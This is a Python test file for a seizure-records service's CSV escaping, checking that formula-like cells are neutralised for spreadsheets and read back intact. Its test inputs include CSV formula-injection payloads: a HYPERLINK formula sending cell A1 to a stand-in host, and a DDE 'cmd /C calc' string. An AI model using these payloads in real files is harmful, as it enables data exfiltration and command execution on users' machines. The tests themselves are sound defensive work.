"""Cells that leave in a table run nowhere, and come back as they left."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from custody.service.kernel.csv_cells import guarded, unguarded
from custody.service.seizures.unodc import COLUMNS, read, write

NOW = "2030-01-01T00:00:00.000Z"


@given(st.text() | st.from_regex(r"'*[=+@-].*") | st.from_regex(r"[ab;\t\n' =+＝-]{0,9}"))
def test_what_was_guarded_comes_back(text):
    """Guarding is undone by reading, whatever stood there before."""
    assert unguarded(guarded(text)) == text
    assert guarded(text)[:1] not in set("=+-@\t\r") or len(text) == 1


@pytest.mark.parametrize("text", ["Kayes;=1+1;z", "Kayes\t@SUM(A1)", "a\n+5", "Kayes;  -2+3", "＝1+1", "a;''=1"])
def test_no_spreadsheet_finds_a_formula_inside_a_cell(text):
    """One in French splits at semicolons, any at tabs; the full-width signs are read like the narrow ones."""
    cells = re.split(r"[;\t\n]", guarded(text))
    assert not any(cell.strip()[:1] in set("=+-@＝＋－＠") for cell in cells if cell.strip())
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize(
    "place", ['=HYPERLINK("http://x.example/?"&A1,"Bamako")', "@SUM(1)", "+1+cmd|' /C calc'!A0", "-2+3"]
)
def test_a_place_that_is_a_formula_is_text_in_a_spreadsheet(place):
    """The officer's words reach the ministry's spreadsheet as words; the file is read again as it was."""
    row = dict.fromkeys(COLUMNS, "") | {
        "COUNTRY": "Mali", "PLACE": place, "SEIZURE_DATE": "2016-05-10", "DRUG_NAME": "Cocaine", "AMOUNT": "5.9",
        "DRUG_UNIT": "Kilogram",
    }  # fmt: skip
    text = write([row])
    assert f"'{place[0]}" in text
    sheet = read(text, NOW)
    assert [r.cells for r in sheet.rows] == [row], sheet.refused
    assert write([r.cells for r in sheet.rows]) == text
